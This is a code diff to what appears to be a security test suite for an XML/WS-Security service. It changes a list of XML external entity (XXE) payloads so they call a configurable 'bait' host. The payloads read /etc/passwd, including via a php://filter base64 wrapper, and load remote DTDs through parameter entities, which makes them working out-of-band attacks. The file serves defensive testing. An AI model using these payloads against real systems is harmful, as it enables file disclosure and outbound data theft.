@@ -8,16 +8,16 @@ from talk import seal
 from wss import WSSE, WSU, b64
 
 DOCTYPES = [
-    "SYSTEM 'file:///etc/passwd'", "SYSTEM 'http://127.0.0.1:9/x.dtd'", "PUBLIC '-//x//y' 'https://127.0.0.1:9/x.dtd'", "SYSTEM '\\\\127.0.0.1\\x'",
+    "SYSTEM 'file:///etc/passwd'", "SYSTEM 'http://@bait@/x.dtd'", "PUBLIC '-//x//y' 'https://@bait@/x.dtd'", "SYSTEM '\\\\127.0.0.1\\x'",
     "[<!ENTITY e SYSTEM 'file:///etc/passwd'>]", "[<!ENTITY e SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'>]",
-    "[<!ENTITY % p SYSTEM 'http://127.0.0.1:9/p'> %p;]", "[<!ENTITY % a '<!ENTITY &#37; b SYSTEM \"http://127.0.0.1:9/\">'> %a; %b;]", "[<!ATTLIST x y CDATA 'z'>]", "x",
+    "[<!ENTITY % p SYSTEM 'http://@bait@/p'> %p;]", "[<!ENTITY % a '<!ENTITY &#37; b SYSTEM \"http://@bait@/\">'> %a; %b;]", "[<!ATTLIST x y CDATA 'z'>]", "x",
 ]
 
 
 @attack("P1", answer="DK0001", ms=1, fast=len(DOCTYPES), full=200, lines="BP-R1008")
 def test_p1_doctypes_and_entities(field):
     for inner in DOCTYPES:
-        yield text(("?>", f"?><!DOCTYPE x {inner}>"), ("anonymous?", "&e;?")).encode()
+        yield text(("?>", f"?><!DOCTYPE x {inner}>".replace("@bait@", field.bait.place)), ("anonymous?", "&e;?")).encode()
 
 
 @attack("P1", answer="DK0001", ms=1, lines="BP-R1008")
